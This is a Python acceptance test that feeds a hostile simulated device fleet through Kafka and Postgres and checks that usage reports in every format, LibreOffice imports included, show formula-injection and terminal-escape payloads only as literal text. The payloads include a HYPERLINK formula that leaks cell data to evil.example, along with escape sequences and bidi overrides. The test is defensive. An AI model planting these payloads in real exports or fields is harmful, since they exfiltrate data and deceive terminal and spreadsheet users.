"""A hostile fleet through the real path (issue 14, part 2): console and agent messages on
real Kafka, the worker storing them in real Postgres, then `license-worker report usage` in
every format. No cell may be a formula, no CSV field may start like one, and no control,
escape or bidi character may reach a terminal or a spreadsheet; LibreOffice, opening the
CSV and the workbook as an MSP would, must show every cell as the literal text.

What reaches a report, and what validation lets through (schemas/agent_events.py and
schemas/admin_events.py): ids (customer, device, user) refuse control, format and line
separator characters but may start with `= + - @`; the console's customer name is free
text (anything but NUL), so control characters, escape sequences and bidi overrides arrive
there. Packages, device kinds and statuses are enums. Host names, e-mails, display names,
group and subscription ids are stored but never shown in a report; the fleet carries
hostile values in them too."""

from __future__ import annotations

import csv
import io
import subprocess
import unicodedata
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from openpyxl import load_workbook

from tests.integration.license_support import admin_event, apply_admin, ingest, send_admin
from tests.service_fixtures import fresh_topic_names
from tests.support import (
    Services,
    create_topics,
    encode,
    fetch,
    make_settings,
    produce,
    required_tool,
    run_cli,
    settings_environment,
)
from worker.report.safe_text import FORMULA_STARTS, csv_text, printable
from worker.settings import Settings
from worker.sim.fleet import SimulatedDevice, agent_event

pytestmark = pytest.mark.acceptance

NOW = datetime.now(UTC).replace(microsecond=0)
AT = NOW - timedelta(hours=1)

# Payloads that compute something other than their own text, so a computed cell shows.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CONCAT = '=CONCATENATE("PW","NED")'
COMPUTED = {"Click", "PWNED", "2", "42"}  # what the payloads compute to
# A terminal hyperlink (OSC 8), a clear screen, a fake line, a right-to-left override, C1
# controls (NEL, CSI), DEL, a line separator, a vertical tab (openpyxl refused it), SOH.
CONTROLS = (
    "Evil\x1b]8;;http://evil.example\x07Corp\x1b[2J\r\nFAKE LINE\u202egnp.exe"
    "\x85\x9b31m\x7f\u2028\x0b\x01 =1+1"
)
# customer id: the name the console gives it.
CUSTOMERS = {HYPERLINK: CONCAT, "@SUM(1,41)": CONTROLS, "+7*6": "-2+44"}
USERS = ["=1+1", CONCAT, "#REF!", "-2+44"]
# (device id, user id): every user has a device; one device has no user (a kiosk).
DEVICES = [
    ("=2*21", "=1+1"),
    ("+7*6", CONCAT),
    ("-2+44", "#REF!"),
    ("@SUM(1,41)", "-2+44"),
    (HYPERLINK, "=1+1"),
    ("=3*14", None),
]
# Stored, never shown in a report.
PERSONAL = {
    "hostname": "=1+1\x1b[2Jhost\r\n",
    "os": "@SUM(1,41)\u202e",
    "agent_version": "-2+44\x9b",
    "user": {"email": '=HYPERLINK("mailto:x")\x07', "display_name": CONTROLS},
}
GROUP = "=SUM(1,41)"
# Validation refuses a control character in an id: this one goes to the DLQ.
REFUSED_DEVICE = "dev\x1b[2J"


def fleet() -> list[SimulatedDevice]:
    return [
        SimulatedDevice(customer_id, device_id, user_id, "business")
        for customer_id in CUSTOMERS
        for device_id, user_id in DEVICES
    ]


def console_messages() -> list[dict[str, Any]]:
    at = AT - timedelta(minutes=10)
    messages = [
        admin_event("customer.created", customer_id, at, name=name)
        for customer_id, name in CUSTOMERS.items()
    ]
    messages += [
        admin_event(
            "subscription.attached", HYPERLINK, at, subscription_id="=1+1", package="core_plus",
            group_id=GROUP, status="active",
        ),
        admin_event("group.member_added", HYPERLINK, at, group_id=GROUP, user_id=CONCAT),
    ]  # fmt: skip
    return messages


def install(device: SimulatedDevice) -> tuple[bytes, bytes]:
    event = agent_event(device, "install", AT)
    event.update({key: value for key, value in PERSONAL.items() if key != "user"})
    if device.user_id is not None:
        event["user"] = PERSONAL["user"]
    return device.key, encode(event)


def invisible(text: str) -> list[str]:
    """Characters a terminal or spreadsheet would obey or hide, except the layout's line feeds."""
    return [
        ch
        for ch in text
        if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]


@dataclass(frozen=True)
class Exports:
    table: str
    json: Path
    csv: Path
    xlsx: Path


async def ingest_hostile_fleet(services: Services, settings: Settings) -> None:
    """The console first (so it also holds where unknown customers are refused), then the
    agents, each until the worker committed every message."""
    console = console_messages()
    await send_admin(services, settings, console)
    await apply_admin(services, settings, NOW, len(console))
    messages = [install(device) for device in fleet()]
    refused = SimulatedDevice(HYPERLINK, REFUSED_DEVICE, "=1+1", "business")
    messages.append(install(refused))
    await produce(services.kafka_bootstrap_servers, settings.lifecycle_topic, messages)
    await ingest(services, settings, NOW, len(messages))


def export(environment: dict[str, str], output_format: str, path: Path | None = None) -> str:
    output = ["--output", str(path)] if path else []
    result = run_cli(environment, "report", "usage", "--format", output_format, *output)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result.stdout


@pytest.fixture(scope="module")
async def hostile_exports(
    services: Services, template_database: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Exports]:
    """One hostile fleet, exported in every format, for the tests of this module."""
    url = await services.create_database("license_test", template=template_database)
    await services.set_up_roles(url)
    topics = fresh_topic_names()
    await create_topics(services.kafka_bootstrap_servers, topics, partitions=1)
    settings = make_settings(services, services.worker_url(url), topics)
    try:
        await ingest_hostile_fleet(services, settings)
        stored = await fetch(
            settings.database_url.get_secret_value(),
            "SELECT customer_id, device_id FROM devices",
        )
        expected = {(device.customer_id, device.device_id) for device in fleet()}
        # Validation let every hostile id through, and refused the control character.
        assert {(row["customer_id"], row["device_id"]) for row in stored} == expected
        directory = tmp_path_factory.mktemp("exports")
        environment = settings_environment(settings)
        paths = {name: directory / f"usage.{name}" for name in ("json", "csv", "xlsx")}
        for name, path in paths.items():
            export(environment, name, path)
        yield Exports(export(environment, "table"), paths["json"], paths["csv"], paths["xlsx"])
    finally:
        await services.drop_database(url)


def expected_subjects() -> set[tuple[str, str, str]]:
    """(customer id, subject type, subject id) of every report row."""
    users = {(c, "user", u) for c in CUSTOMERS for u in USERS}
    return users | {(c, "device", d) for c in CUSTOMERS for d, _ in DEVICES}


def test_every_format_shows_the_hostile_fleet_as_text(hostile_exports: Exports) -> None:
    # JSON: the exact values, every control character escaped by JSON itself.
    text = hostile_exports.json.read_text(encoding="utf-8")
    assert invisible(text) == []
    document = orjson.loads(text)
    names = {c["customer"]["customer_id"]: c["customer"]["name"] for c in document["customers"]}
    assert names == CUSTOMERS
    rows = [row for c in document["customers"] for row in c["rows"]]
    assert {(r["customer_id"], r["subject_type"], r["subject_id"]) for r in rows} == (
        expected_subjects()
    )
    grouped = [r for r in rows if (r["customer_id"], r["subject_id"]) == (HYPERLINK, CONCAT)]
    assert {r["package"] for r in grouped} == {"core_plus"}  # through the hostile group id

    # Table: nothing the terminal would obey; the name's escapes shown on its own line.
    table = hostile_exports.table
    assert invisible(table) == []
    for customer_id, name in CUSTOMERS.items():
        assert f"\n== {printable(customer_id)} {printable(name)} (active, user model)\n" in table
    assert "\\x1b]8;;http://evil.example\\x07Corp\\x1b[2J\\x0d\\x0aFAKE LINE\\u202e" in table
    assert not any(line.startswith("FAKE LINE") for line in table.splitlines())

    # CSV: no field starts like a formula; the hostile ids carry the quote.
    csv_text_content = hostile_exports.csv.read_text(encoding="utf-8")
    assert invisible(csv_text_content) == []
    [header, *lines] = list(csv.reader(io.StringIO(csv_text_content)))
    assert header[:3] == ["customer_id", "subject_type", "subject_id"]
    assert all(not field.startswith(FORMULA_STARTS) for line in lines for field in line)
    assert {(line[0], line[1], line[2]) for line in lines} == {
        (csv_text(c), t, csv_text(s)) for c, t, s in expected_subjects()
    }


def test_no_workbook_cell_is_a_formula(hostile_exports: Exports) -> None:
    book = load_workbook(hostile_exports.xlsx)
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"}, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert invisible(cell.value) == [], (sheet.title, cell.coordinate)
                    texts.add(cell.value)
    detail = {
        (row[0], row[1], row[2]) for row in book["Detail"].iter_rows(min_row=2, values_only=True)
    }
    assert detail == {(printable(c), t, printable(s)) for c, t, s in expected_subjects()}
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary == {
        **{printable(c): printable(n) for c, n in CUSTOMERS.items()},
        "all 3 customers": None,
    }
    assert not texts & COMPUTED


# ------------------------------------------------------------------------- LibreOffice
# The CSV is opened the way that trusts it most: formulas evaluated, quoted fields not
# forced to text (filter tokens: separator, quote, UTF-8, from line 1, default cell
# formats, language, quoted-as-text off, special numbers off, ..., evaluate formulas on).
CSV_IMPORT = "CSV:44,34,76,1,,0,false,false,false,false,false,false,true"
CONVERT_TIMEOUT = 120


@pytest.fixture
def soffice() -> str:
    """LibreOffice's binary (installed in CI)."""
    return required_tool("soffice", "libreoffice-calc-nogui")


def convert_to_xlsx(soffice: str, source: Path, out_dir: Path, infilter: str | None = None) -> Path:
    """One headless conversion, in a private profile (a user's own LibreOffice is never
    touched, and parallel runs never share one)."""
    profile = out_dir / "profile"
    command = [
        soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        *([f"--infilter={infilter}"] if infilter else []),
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out_dir),
        str(source),
    ]
    result = subprocess.run(
        command, capture_output=True, text=True, timeout=CONVERT_TIMEOUT, check=False
    )
    converted = out_dir / f"{source.stem}.xlsx"
    assert result.returncode == 0, result.stdout + result.stderr
    assert converted.exists(), result.stdout + result.stderr
    return converted


def shown_cells(path: Path) -> dict[tuple[str, str], Any]:
    """What LibreOffice computed and saved for each cell: the value a user sees. LibreOffice
    saves a boolean as the formula `=TRUE()`/`=FALSE()`, the only formula it may write."""
    formulas = load_workbook(path)
    for sheet in formulas.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if cell.data_type == "f":
                    assert cell.value in {"=TRUE()", "=FALSE()"}, (sheet.title, cell.value)
    shown = load_workbook(path, data_only=True)
    return {
        (sheet.title, cell.coordinate): cell.value
        for sheet in shown.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def test_libreoffice_shows_every_csv_field_as_its_text(
    soffice: str, hostile_exports: Exports, tmp_path: Path
) -> None:
    converted = convert_to_xlsx(soffice, hostile_exports.csv, tmp_path, CSV_IMPORT)
    shown = shown_cells(converted)
    lines = list(csv.reader(io.StringIO(hostile_exports.csv.read_text(encoding="utf-8"))))
    sheet = converted.stem
    expected = {
        (sheet, f"{chr(ord('A') + column)}{number}"): field
        for number, line in enumerate(lines, start=1)
        for column, field in enumerate(line)
        if field != ""
    }
    # Counts come back as numbers, everything else as the field's own text.
    assert {key: str(value) for key, value in shown.items()} == expected
    assert (sheet, "A2") in shown
    assert "'" + HYPERLINK in shown.values()


def test_libreoffice_shows_every_workbook_cell_as_written(
    soffice: str, hostile_exports: Exports, tmp_path: Path
) -> None:
    converted = convert_to_xlsx(soffice, hostile_exports.xlsx, tmp_path)
    written = load_workbook(hostile_exports.xlsx)
    expected = {
        (sheet.title, cell.coordinate): cell.value
        for sheet in written.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert shown_cells(converted) == expected
    assert HYPERLINK in expected.values()
    assert CONCAT in expected.values()
